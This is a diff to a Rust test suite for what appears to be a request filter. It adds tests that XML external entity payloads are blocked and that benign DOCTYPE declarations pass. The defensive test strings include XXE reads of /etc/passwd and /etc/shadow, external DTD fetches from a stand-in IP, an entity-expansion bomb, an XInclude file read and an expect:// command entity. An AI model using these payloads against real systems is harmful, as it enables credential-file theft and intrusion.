@@ -256,6 +256,37 @@ fn xml_cdata_and_comments_are_inspected() {
 }
 
 #[test]
+fn xml_external_entities_are_blocked() {
+    let bodies = [
+        r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
+        r#"<!DOCTYPE foo [ <!ENTITY % dtd SYSTEM "http://203.0.113.5/e.dtd"> %dtd; ]><foo/>"#,
+        r#"<!DOCTYPE foo PUBLIC "-//x//y" "http://203.0.113.5/e.dtd"><foo/>"#,
+        r#"<!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;">]><l>&b;</l>"#,
+        r#"<r xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></r>"#,
+    ];
+    for body in bodies {
+        assert!(xml_blocked(body), "{body}");
+    }
+    // The same declarations in a JSON field or a plain-text body.
+    let json = r#"{"doc":"<!DOCTYPE a [<!ENTITY e SYSTEM \"file:///etc/shadow\">]><a>&e;</a>"}"#;
+    assert!(blocked(&with_body("POST", "application/json", json), json));
+    let text = "<!DOCTYPE a [<!ENTITY e SYSTEM \"expect://id\">]><a>&e;</a>";
+    assert!(blocked(&with_body("POST", "text/plain", text), text));
+}
+
+#[test]
+fn xml_declarations_without_entities_pass() {
+    let bodies = [
+        r#"<?xml version="1.0"?><!DOCTYPE note><note><to>Tove</to></note>"#,
+        r#"<!DOCTYPE html><html><body><p>Tom &amp; Jerry</p></body></html>"#,
+        r#"<!DOCTYPE r [<!ENTITY company "Example Corp">]><r>&company;</r>"#,
+    ];
+    for body in bodies {
+        assert!(!xml_blocked(body), "{body}");
+    }
+}
+
+#[test]
 fn xml_cdata_lookalikes_pass() {
     let bodies = [
         "<a><q><![CDATA[Tom & Jerry <3 cartoons]]></q></a>",
@@ -975,6 +1006,10 @@ const GATE_SAMPLES: &[&str] = &[
     "document.cookie=\"a=b\"",
     "nikto",
     "../../../.git/config",
+    "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>",
+    "<!ENTITY % p SYSTEM 'http://x/e.dtd'>",
+    "<!ENTITY b \"&a;&a;&a;\">",
+    "<xi:include href=\"/etc/passwd\" parse=\"text\"/>",
 ];
 
 #[test]
